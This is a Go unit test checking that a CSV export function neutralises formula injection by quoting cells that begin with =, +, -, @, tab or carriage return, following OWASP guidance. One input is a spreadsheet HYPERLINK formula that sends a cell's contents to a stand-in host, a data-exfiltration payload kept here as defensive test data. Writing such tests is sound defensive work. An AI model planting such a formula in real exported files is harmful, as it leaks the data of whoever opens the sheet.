package export

import (
	"bytes"
	"encoding/csv"
	"testing"
)

// A rater's comment "=HYPERLINK(…)" was once written into the CSV as it stood, and a
// spreadsheet would run it. OWASP, "CSV Injection": cells beginning with = + - @, tab
// or carriage return are prefixed with a single quote; numbers stay numbers.
func TestCSVQuotesFormulas(t *testing.T) {
	type row struct {
		Comment string  `parquet:"comment"`
		OnsetS  float64 `parquet:"onset_s"`
	}
	in := []row{
		{`=HYPERLINK("http://x.example/?"&A1,"see")`, -1.5},
		{"+1", 0}, {"-2", 0}, {"@SUM(A1:A2)", 0}, {"\tx", 0}, {"\rx", 0},
		{"plain, with a comma", 2}, {"a=b", 3}, {"", 4},
	}
	want := []string{`'=HYPERLINK("http://x.example/?"&A1,"see")`, "'+1", "'-2", "'@SUM(A1:A2)", "'\tx", "'\rx",
		"plain, with a comma", "a=b", ""}
	var buf bytes.Buffer
	if err := writeCSV(&buf, in); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for i, w := range want {
		if got := recs[i+1][0]; got != w {
			t.Errorf("row %d: comment %q, want %q", i+1, got, w)
		}
	}
	if recs[1][1] != "-1.5" {
		t.Errorf("a negative number became %q", recs[1][1])
	}
}
